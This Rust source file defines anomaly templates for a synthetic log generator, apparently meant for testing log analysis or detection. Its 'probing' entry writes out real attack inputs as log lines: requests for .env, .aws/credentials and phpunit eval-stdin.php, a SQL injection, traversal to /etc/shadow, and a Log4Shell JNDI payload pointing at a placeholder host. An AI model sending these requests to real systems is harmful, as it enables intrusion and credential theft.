//! What access logs tell: answers that are errors, and visitors with intentions.

use super::Anomaly;
use crate::generate::moment::{MINUTE, SECOND};

pub(super) const ALL: &[Anomaly] = &[
    Anomaly {
        profiles: &["web"],
        kind: "server-error-burst",
        story: "many answers are 502 and 503",
        gap: SECOND / 2,
        lines: (60, 200),
        body: &[
            &[
                "ERROR web | {ip} - - [{@access}] \"GET /product/{sku} HTTP/2.0\" {one:502|503} {n:157..190} {rest}",
            ],
            &[
                "ERROR web | {ip} - - [{@access}] \"GET {page} HTTP/2.0\" {one:502|503|504} {n:157..190} {rest}",
            ],
            &[
                "ERROR web | {ip} - - [{@access}] \"POST /api/orders HTTP/2.0\" 503 {n:157..190} \"{site}/checkout\" \"{agent}\"",
            ],
            &[
                "ERROR web | 10.0.0.5 - - [{@access}] \"GET /healthz HTTP/1.1\" 503 {n:20..40} \"-\" \"kube-probe/1.29\"",
            ],
        ],
        ..Anomaly::USUAL
    },
    Anomaly {
        profiles: &["web"],
        kind: "probing",
        story: "{ip} looks for holes",
        pinned: &["ip", "agent"],
        gap: SECOND / 3,
        lines: (50, 160),
        body: &[
            &[
                "WARN web | {ip} - - [{@access}] \"GET /{one:.env|.git/config|phpmyadmin/index.php|actuator/env|server-status|backup.zip|wp-admin/setup-config.php|cgi-bin/luci|.aws/credentials|vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php} HTTP/1.1\" 404 {n:150..160} \"-\" \"{agent}\"",
            ],
            &[
                "WARN web | {ip} - - [{@access}] \"GET /search?q=%27%20UNION%20SELECT%20{n:1..20},NULL,NULL-- HTTP/1.1\" {one:400|403|200} {size:700} \"-\" \"{agent}\"",
            ],
            &[
                "INFO web | {ip} - - [{@access}] \"GET /static/..%2f..%2f..%2fetc/{one:passwd|hosts|shadow} HTTP/1.1\" {one:400|403} {n:150..160} \"-\" \"{agent}\"",
            ],
            &[
                "INFO web | {ip} - - [{@access}] \"POST /api/cart HTTP/1.1\" 201 {n:300..350} \"-\" \"${{jndi:ldap://{stranger}/a}}\"",
            ],
        ],
        ..Anomaly::USUAL
    },
    Anomaly {
        profiles: &["web"],
        kind: "scraping",
        story: "{ip} asks for every product, one after the other",
        pinned: &["ip", "agent"],
        gap: SECOND / 4,
        lines: (80, 240),
        body: &[&[
            "INFO web | {ip} - - [{@access}] \"GET /product/{any:goods}?v={up:scrape:1} HTTP/1.1\" 200 {size:14100} \"-\" \"{agent}\"",
        ]],
        ..Anomaly::USUAL
    },
    Anomaly {
        profiles: &["web"],
        kind: "data-exfiltration",
        story: "{ip} downloads far more than a page has",
        pinned: &["ip", "agent"],
        gap: 2 * MINUTE,
        lines: (4, 14),
        body: &[&[
            "INFO web | {ip} - {user} [{@access}] \"GET /account/invoices/{n:20000..90000}.pdf HTTP/2.0\" 200 {n:480000000..2100000000} \"-\" \"{agent}\"",
        ]],
        ..Anomaly::USUAL
    },
    Anomaly {
        profiles: &["microservices"],
        kind: "server-error-burst",
        story: "the catalog answers with errors",
        pinned: &["region"],
        gap: SECOND / 2,
        lines: (40, 120),
        body: &[&[
            "INFO gateway | GET /v1/products/{sku} ;; \"user\":\"{user}\",\"region\":\"{region}\",\"channel\":\"{channel}\"",
            "+5 ERROR catalog | ReferenceError: tariff is not defined{node:3..6} ;; \"sku\":\"{sku}\"",
            "+3 ERROR gateway | request completed ;; \"method\":\"GET\",\"path\":\"/v1/products/{sku}\",\"status\":500,\"duration_ms\":{took:1},\"region\":\"{region}\"",
        ]],
        ..Anomaly::USUAL
    },
];
